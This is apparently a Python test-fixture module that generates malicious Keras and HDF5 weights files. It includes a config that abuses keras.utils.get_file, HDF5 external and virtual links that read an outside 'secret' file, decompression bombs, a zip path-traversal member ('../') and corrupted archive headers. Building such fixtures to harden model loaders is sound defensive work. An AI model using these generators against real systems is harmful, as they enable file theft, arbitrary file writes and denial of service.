"""Weights files that attack their reader: each function spoils a good file, or writes a bad one.

The attacks are public. CVE-2025-8747: a config calls `keras.utils.get_file`. CVE-2026-1669: an array of an HDF5 file
lies in another file. The others are features of HDF5 and of zip archives that no file of weights needs.
"""

import json
import pathlib
import struct
import zipfile
import zlib

import h5py
import numpy as np

KERNEL = "layers/conv2d/vars/0"
SECRET = b"root:x:0:0:root:/root:/bin/bash\n"


def keras_archive(path: pathlib.Path, weights: pathlib.Path) -> pathlib.Path:
    """Write a .keras file with good weights, whose config copies a file; return the file that the config writes."""
    payload, written = path.with_suffix(".payload"), path.parent / "copied" / "stolen"
    payload.write_text("written by a weights file")
    get_file = {"module": "keras.utils", "class_name": "function", "config": "get_file", "registered_name": "get_file"}
    arguments = {"origin": payload.as_uri(), "cache_dir": str(path.parent), "cache_subdir": written.parent.name}
    layers = [
        _layer("i", "InputLayer", {"batch_shape": [None, 1]}, []),
        _layer(
            "l",
            "Lambda",
            {"function": get_file, "arguments": arguments},
            [{"args": [], "kwargs": {"inputs": "stolen"}}],
        ),
    ]
    model = {"name": "m", "layers": layers, "input_layers": [["i", 0, 0]], "output_layers": [["i", 0, 0]]}
    config = {"module": "keras.src.models.functional", "class_name": "Functional", "config": model}
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("config.json", json.dumps({**config, "registered_name": "Functional"}))
        archive.write(weights, "model.weights.h5")
    return written


def _layer(name: str, kind: str, config: dict[str, object], inbound: list[object]) -> dict[str, object]:
    return {
        "module": "keras.layers",
        "class_name": kind,
        "config": {"name": name, **config},
        "registered_name": None,
        "name": name,
        "inbound_nodes": inbound,
    }


def _replace(file: h5py.File) -> tuple[int, ...]:
    shape = file[KERNEL].shape
    del file[KERNEL]
    return shape


def external_storage(file: h5py.File, secret: pathlib.Path) -> None:
    shape = _replace(file)
    file.create_dataset(KERNEL, shape, np.float32, external=[(str(secret), 0, h5py.h5f.UNLIMITED)])


def virtual_dataset(file: h5py.File, secret: pathlib.Path) -> None:
    shape = _replace(file)
    layout = h5py.VirtualLayout(shape, np.float32)
    layout[...] = h5py.VirtualSource(str(secret), KERNEL, shape)
    file.create_virtual_dataset(KERNEL, layout)


def external_link(file: h5py.File, secret: pathlib.Path) -> None:
    _replace(file)
    file[KERNEL] = h5py.ExternalLink(str(secret), KERNEL)


def external_link_to_a_layer(file: h5py.File, secret: pathlib.Path) -> None:
    del file["layers/conv2d"]
    file["layers/conv2d"] = h5py.ExternalLink(str(secret), "layers/conv2d")


def soft_link(file: h5py.File, secret: pathlib.Path) -> None:
    _replace(file)
    file["kernel"] = np.zeros((3, 3, 3, 4), np.float32)
    file[KERNEL] = h5py.SoftLink("/kernel")


def giant(file: h5py.File, secret: pathlib.Path) -> None:
    _replace(file)
    file.create_dataset(KERNEL, (1 << 40, 1 << 20), np.float32, chunks=(1, 1024), compression="gzip")


def giant_chunk(file: h5py.File, secret: pathlib.Path) -> None:
    shape = _replace(file)
    file.create_dataset(KERNEL, shape, np.float32, chunks=(1024, 1024, 3, 4), maxshape=(None,) * 4)


def deflate_bomb(file: h5py.File, secret: pathlib.Path) -> None:
    """A chunk of one array of 432 bytes that inflates to 4 GiB: HDF5 sets no limit."""
    shape = _replace(file)
    kernel = file.create_dataset(KERNEL, shape, np.float32, chunks=shape, compression="gzip")
    packer = zlib.compressobj(9)
    first = packer.compress(bytes(1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    block = packer.compress(bytes(1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    kernel.id.write_direct_chunk((0, 0, 0, 0), first + block * 4095 + packer.flush())


def unknown_filter(file: h5py.File, secret: pathlib.Path) -> None:
    shape = _replace(file)
    properties = h5py.h5p.create(h5py.h5p.DATASET_CREATE)
    properties.set_chunk(shape)
    properties.set_filter(32001, h5py.h5z.FLAG_OPTIONAL, ())  # Blosc, a plugin
    space = h5py.h5s.create_simple(shape)
    h5py.h5d.create(file["layers/conv2d/vars"].id, b"0", h5py.h5t.NATIVE_FLOAT, space, properties)


def references(file: h5py.File, secret: pathlib.Path) -> None:
    file.create_dataset(KERNEL, _replace(file), h5py.ref_dtype)


def pickled(file: h5py.File, secret: pathlib.Path) -> None:
    file.create_dataset(KERNEL, _replace(file), h5py.opaque_dtype(np.dtype("datetime64[s]")))


def strings(file: h5py.File, secret: pathlib.Path) -> None:
    file.create_dataset(KERNEL, _replace(file), h5py.string_dtype())


def compound(file: h5py.File, secret: pathlib.Path) -> None:
    file.create_dataset(KERNEL, _replace(file), np.dtype([("a", "f4"), ("b", "f4")]))


def circle(file: h5py.File, secret: pathlib.Path) -> None:
    del file["layers/conv2d/vars"]
    file["layers/conv2d/vars"] = file["layers"]


def a_group_in_place_of_an_array(file: h5py.File, secret: pathlib.Path) -> None:
    _replace(file)
    file.create_group(KERNEL)


def an_array_in_place_of_a_layer(file: h5py.File, secret: pathlib.Path) -> None:
    del file["layers/conv2d"]
    file["layers/conv2d"] = np.zeros(3)


def many_names(file: h5py.File, secret: pathlib.Path) -> None:
    file.attrs.create("layer_names", np.full(20_000, b"x"))


def numbers_for_names(file: h5py.File, secret: pathlib.Path) -> None:
    file.attrs["layer_names"] = np.arange(3)


def zip_bomb(path: pathlib.Path, weights: pathlib.Path) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("model.weights.h5", weights.read_bytes() + bytes(100 << 20))


def two_members(path: pathlib.Path, weights: pathlib.Path) -> None:
    with zipfile.ZipFile(path, "w") as archive:
        archive.write(weights, "model.weights.h5")
        archive.write(weights, "model.weights.h5")


def encrypted(path: pathlib.Path, weights: pathlib.Path) -> None:
    keras_archive(path, weights)
    data = bytearray(path.read_bytes())
    entry = data.rindex(b"PK\x01\x02")  # of the last member, in the directory
    (flags,) = struct.unpack_from("<H", data, entry + 8)
    struct.pack_into("<H", data, entry + 8, flags | 1)
    path.write_bytes(data)


def bzip2(path: pathlib.Path, weights: pathlib.Path) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_BZIP2) as archive:
        archive.write(weights, "model.weights.h5")


def pickled_numpy(path: pathlib.Path, weights: pathlib.Path) -> None:
    """Only the .npz that Keras 3 also knows, which numpy can unpickle."""
    with zipfile.ZipFile(path, "w") as archive:
        archive.write(weights, "model.weights.npz")


def outside(path: pathlib.Path, weights: pathlib.Path) -> None:
    with zipfile.ZipFile(path, "w") as archive:
        archive.write(weights, "../model.weights.h5")


def wrong_size(path: pathlib.Path, weights: pathlib.Path) -> None:
    """The directory says that the member has 1,000 bytes."""
    keras_archive(path, weights)
    data = bytearray(path.read_bytes())
    struct.pack_into("<I", data, data.rindex(b"PK\x01\x02") + 24, 1000)
    path.write_bytes(data)
